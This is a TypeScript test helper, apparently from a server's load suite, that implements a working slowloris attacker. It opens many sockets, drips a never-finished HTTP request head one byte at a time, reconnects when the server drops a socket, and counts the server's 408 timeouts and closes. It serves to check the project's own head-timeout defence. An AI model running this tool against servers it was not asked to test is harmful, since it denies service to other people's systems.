// A slowloris attacker for the load suite and the soak: N sockets, each sending a request
// head a byte a tick and never finishing it, reconnecting when the server drops one (as a
// real attacker does). Counts what the server did to them: 408s (head timeout) and closes.

import { connect, type Socket } from 'node:net';

/** What the attack saw. */
export interface SlowlorisCounts {
  opened: number;
  closed: number;
  /** Closes that came with a 408 (the head timeout). */
  timedOut: number;
}

const HEAD = 'GET /slow HTTP/1.1\r\nHost: x\r\n' + 'X-Slow: '.padEnd(100_000, 'a');

/** N slow sockets to [host, port], each sending one byte every `tickMs`, until stop(). */
export class Slowloris {
  readonly counts: SlowlorisCounts = { opened: 0, closed: 0, timedOut: 0 };
  readonly #sockets = new Map<Socket, number>();
  readonly #timer: ReturnType<typeof setInterval>;
  #stopped = false;
  readonly #host: string;
  readonly #port: number;

  constructor(host: string, port: number, count: number, tickMs = 1000) {
    this.#host = host;
    this.#port = port;
    for (let i = 0; i < count; i++) this.#open();
    this.#timer = setInterval(() => {
      for (const [socket, sent] of this.#sockets) {
        if (socket.writable && sent < HEAD.length) {
          socket.write(HEAD[sent]!);
          this.#sockets.set(socket, sent + 1);
        }
      }
    }, tickMs);
  }

  /** Slow sockets open now. */
  get open(): number {
    return this.#sockets.size;
  }

  /** Waits (at most `ms`) until `n` sockets have connected. */
  async opened(n: number, ms = 10_000): Promise<void> {
    const until = Date.now() + ms;
    while (this.counts.opened < n) {
      if (Date.now() > until) throw new Error(`only ${this.counts.opened} of ${n} slow sockets connected within ${ms} ms`);
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  }

  #open(): void {
    const socket = connect(this.#port, this.#host);
    let text = '';
    socket.on('connect', () => {
      this.counts.opened++;
      socket.write(HEAD[0]!);
    });
    socket.on('data', (chunk: Buffer) => void (text += chunk.toString('latin1')));
    socket.on('error', () => {});
    socket.on('close', () => {
      this.#sockets.delete(socket);
      this.counts.closed++;
      if (text.startsWith('HTTP/1.1 408 ')) this.counts.timedOut++;
      if (!this.#stopped) this.#open();
    });
    this.#sockets.set(socket, 1);
  }

  /** Stops reconnecting; the sockets open go on dripping (to see the head timeout cut them). */
  calm(): void {
    this.#stopped = true;
  }

  /** Ends the attack: no more reconnects, every socket destroyed; resolves when all are closed. */
  async stop(): Promise<void> {
    this.#stopped = true;
    clearInterval(this.#timer);
    const closing = [...this.#sockets.keys()].map((socket) => new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.once('close', () => resolve()))));
    for (const socket of this.#sockets.keys()) socket.destroy();
    await Promise.all(closing);
  }
}
